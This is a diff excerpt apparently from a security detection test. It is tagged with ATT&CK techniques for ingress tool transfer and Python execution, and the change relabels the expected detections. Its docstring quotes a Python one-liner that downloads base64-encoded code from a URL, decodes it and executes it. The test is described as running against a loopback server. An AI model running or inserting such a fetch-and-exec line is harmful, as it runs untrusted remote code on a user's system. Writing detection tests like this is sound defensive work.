@@ -1,5 +1,5 @@
 # technique: T1105 T1059.006
-# expect: download-execute-command download-then-exec
+# expect: download-execute-command decoded-code
 """Ingress Tool Transfer (T1105) then Command and Scripting Interpreter:
 Python (T1059.006): the seed's one-liner, `python -c "exec(b64decode(
 urlopen(URL).read()))"`, against a real HTTP server on the loopback. The
